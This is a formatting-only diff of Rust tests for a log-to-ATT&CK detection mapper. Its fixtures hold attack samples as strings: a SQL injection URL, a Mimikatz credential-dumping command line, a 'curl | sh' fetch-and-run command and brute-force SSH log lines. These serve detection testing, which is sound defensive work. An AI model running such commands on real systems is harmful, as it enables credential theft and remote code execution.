@@ -2,12 +2,18 @@ use super::*;
 use crate::event::Value;
 
 fn row(fields: &[(&str, &str)]) -> Row {
-    fields.iter().map(|(k, v)| (k.to_string(), Value::from(*v))).collect()
+    fields
+        .iter()
+        .map(|(k, v)| (k.to_string(), Value::from(*v)))
+        .collect()
 }
 
 fn techniques(mapper: &Mapper, row: &Row) -> Vec<String> {
-    let mut ids: Vec<String> =
-        mapper.match_row(row).into_iter().flat_map(|m| m.techniques).collect();
+    let mut ids: Vec<String> = mapper
+        .match_row(row)
+        .into_iter()
+        .flat_map(|m| m.techniques)
+        .collect();
     ids.sort();
     ids.dedup();
     ids
@@ -20,7 +26,11 @@ fn bundled() -> &'static Mapper {
 #[test]
 fn bundled_rules_all_load() {
     let mapper = bundled();
-    assert!(mapper.skipped().is_empty(), "skipped: {:?}", mapper.skipped());
+    assert!(
+        mapper.skipped().is_empty(),
+        "skipped: {:?}",
+        mapper.skipped()
+    );
     assert_eq!(mapper.rule_count(), bundled::BUNDLED_RULES.len());
 }
 
@@ -34,7 +44,10 @@ fn bundled_list_matches_folder() {
         .map(|e| e.path().strip_prefix(root).unwrap().display().to_string())
         .collect();
     on_disk.sort();
-    let mut listed: Vec<String> = bundled::BUNDLED_RULES.iter().map(|(p, _)| p.to_string()).collect();
+    let mut listed: Vec<String> = bundled::BUNDLED_RULES
+        .iter()
+        .map(|(p, _)| p.to_string())
+        .collect();
     listed.sort();
     assert_eq!(listed, on_disk);
 }
@@ -52,7 +65,11 @@ fn own_rules_fire_on_examples() {
             }
             Some(_) => {}
         }
-        if mapper.match_row(&row(negative)).iter().any(|m| m.rule_id == *id) {
+        if mapper
+            .match_row(&row(negative))
+            .iter()
+            .any(|m| m.rule_id == *id)
+        {
             failures.push(format!("{name} fired on its negative example"));
         }
     }
@@ -61,7 +78,10 @@ fn own_rules_fire_on_examples() {
 
 #[test]
 fn own_rules_cover_every_file() {
-    let own = bundled::BUNDLED_RULES.iter().filter(|(p, _)| p.starts_with("argus/")).count();
+    let own = bundled::BUNDLED_RULES
+        .iter()
+        .filter(|(p, _)| p.starts_with("argus/"))
+        .count();
     assert_eq!(own_rule_cases::CASES.len(), own);
 }
 
@@ -69,7 +89,10 @@ fn own_rules_cover_every_file() {
 fn story_ssh_failures_map_to_password_guessing() {
     let line = "Dec 10 06:55:46 gacrux sshd[24200]: Failed password for root from 5.101.40.81 \
                 port 38278 ssh2";
-    let ids = techniques(bundled(), &row(&[("sourcetype", "linux_secure"), ("_raw", line)]));
+    let ids = techniques(
+        bundled(),
+        &row(&[("sourcetype", "linux_secure"), ("_raw", line)]),
+    );
     assert!(ids.contains(&"T1110.001".to_string()));
     assert!(ids.contains(&"T1110".to_string()));
 }
@@ -78,7 +101,10 @@ fn story_ssh_failures_map_to_password_guessing() {
 fn story_accepted_password_maps_to_valid_accounts() {
     let line = "Dec 10 07:01:02 gacrux sshd[24210]: Accepted password for ec2-user from \
                 91.207.175.249 port 50212 ssh2";
-    let ids = techniques(bundled(), &row(&[("sourcetype", "linux_secure"), ("_raw", line)]));
+    let ids = techniques(
+        bundled(),
+        &row(&[("sourcetype", "linux_secure"), ("_raw", line)]),
+    );
     assert_eq!(ids, vec!["T1078".to_string()]);
 }
 
@@ -92,7 +118,10 @@ fn story_commands_map_to_discovery_and_download() {
     ];
     for (command, expected) in cases {
         let raw = format!("type=EXECVE msg=audit(1702191400.1:301): cmd={command}");
-        let ids = techniques(bundled(), &row(&[("sourcetype", "linux:audit"), ("_raw", &raw)]));
+        let ids = techniques(
+            bundled(),
+            &row(&[("sourcetype", "linux:audit"), ("_raw", &raw)]),
+        );
         assert!(ids.contains(&expected.to_string()), "{command}: {ids:?}");
     }
 }
@@ -111,7 +140,10 @@ fn story_coinhive_dns_maps_to_resource_hijacking() {
 
 #[test]
 fn story_windows_4625_maps_to_brute_force() {
-    let event = row(&[("sourcetype", "WinEventLog:Security"), ("EventCode", "4625")]);
+    let event = row(&[
+        ("sourcetype", "WinEventLog:Security"),
+        ("EventCode", "4625"),
+    ]);
     let ids = techniques(bundled(), &event);
     assert!(ids.contains(&"T1110".to_string()));
     assert!(ids.contains(&"T1110.001".to_string()));
@@ -122,7 +154,10 @@ fn story_union_select_maps_to_exploit() {
     let request = row(&[
         ("sourcetype", "stream:http"),
         ("src_ip", "45.77.65.211"),
-        ("url", "http://shop.example.com/p.php?id=1%20UNION%20SELECT%20name,pass%20FROM%20users"),
+        (
+            "url",
+            "http://shop.example.com/p.php?id=1%20UNION%20SELECT%20name,pass%20FROM%20users",
+        ),
     ]);
     assert_eq!(techniques(bundled(), &request), vec!["T1190".to_string()]);
 }
@@ -131,15 +166,26 @@ fn story_union_select_maps_to_exploit() {
 fn logsource_filters_sourcetype() {
     // An sshd failure line under a web sourcetype is not an SSH event.
     let line = "sshd[1]: Failed password for root from 5.101.40.81 port 1 ssh2";
-    let ids = techniques(bundled(), &row(&[("sourcetype", "stream:http"), ("_raw", line)]));
+    let ids = techniques(
+        bundled(),
+        &row(&[("sourcetype", "stream:http"), ("_raw", line)]),
+    );
     assert!(!ids.contains(&"T1110.001".to_string()));
 }
 
 #[test]
 fn sysmon_category_requires_event_id() {
     let sysmon = "XmlWinEventLog:Microsoft-Windows-Sysmon/Operational";
-    let create = row(&[("sourcetype", sysmon), ("EventID", "1"), ("Image", r"C:\Windows\whoami.exe")]);
-    let load = row(&[("sourcetype", sysmon), ("EventID", "7"), ("Image", r"C:\Windows\whoami.exe")]);
+    let create = row(&[
+        ("sourcetype", sysmon),
+        ("EventID", "1"),
+        ("Image", r"C:\Windows\whoami.exe"),
+    ]);
+    let load = row(&[
+        ("sourcetype", sysmon),
+        ("EventID", "7"),
+        ("Image", r"C:\Windows\whoami.exe"),
+    ]);
     assert!(techniques(bundled(), &create).contains(&"T1033".to_string()));
     assert!(!techniques(bundled(), &load).contains(&"T1033".to_string()));
 }
@@ -147,7 +193,10 @@ fn sysmon_category_requires_event_id() {
 #[test]
 fn multivalue_field_matches_any_value() {
     let mut event = row(&[("sourcetype", "stream:dns")]);
-    event.insert("query".into(), Value::Multi(vec!["example.org".into(), "coinhive.com".into()]));
+    event.insert(
+        "query".into(),
+        Value::Multi(vec!["example.org".into(), "coinhive.com".into()]),
+    );
     assert_eq!(techniques(bundled(), &event), vec!["T1496".to_string()]);
 }
 
@@ -155,12 +204,22 @@ fn multivalue_field_matches_any_value() {
 fn sigma_rule_fires_on_sysmon_row() {
     // SigmaHQ's "HackTool - Mimikatz Execution" keys on these command-line fragments.
     let event = row(&[
-        ("sourcetype", "XmlWinEventLog:Microsoft-Windows-Sysmon/Operational"),
+        (
+            "sourcetype",
+            "XmlWinEventLog:Microsoft-Windows-Sysmon/Operational",
+        ),
         ("EventID", "1"),
         ("Image", r"C:\Users\Public\m.exe"),
-        ("CommandLine", "m.exe privilege::debug sekurlsa::logonpasswords exit"),
+        (
+            "CommandLine",
+            "m.exe privilege::debug sekurlsa::logonpasswords exit",
+        ),
     ]);
-    let titles: Vec<String> = bundled().match_row(&event).into_iter().map(|m| m.title).collect();
+    let titles: Vec<String> = bundled()
+        .match_row(&event)
+        .into_iter()
+        .map(|m| m.title)
+        .collect();
     assert!(titles.iter().any(|t| t.contains("Mimikatz")), "{titles:?}");
 }
 
@@ -214,8 +273,14 @@ fn wildcards_and_all_modifier() {
                 Image: '*/cu?l'\n  condition: sel and sel2\ntags:\n  - attack.t1105\n";
     std::fs::write(dir.path().join("r.yml"), text).unwrap();
     let mapper = Mapper::from_dir(dir.path()).unwrap();
-    let hit = row(&[("Image", "/usr/bin/curl"), ("CommandLine", "curl -s http://x | sh")]);
-    let half = row(&[("Image", "/usr/bin/curl"), ("CommandLine", "curl -s http://x")]);
+    let hit = row(&[
+        ("Image", "/usr/bin/curl"),
+        ("CommandLine", "curl -s http://x | sh"),
+    ]);
+    let half = row(&[
+        ("Image", "/usr/bin/curl"),
+        ("CommandLine", "curl -s http://x"),
+    ]);
     assert_eq!(techniques(&mapper, &hit), vec!["T1105".to_string()]);
     assert!(mapper.match_row(&half).is_empty());
 }
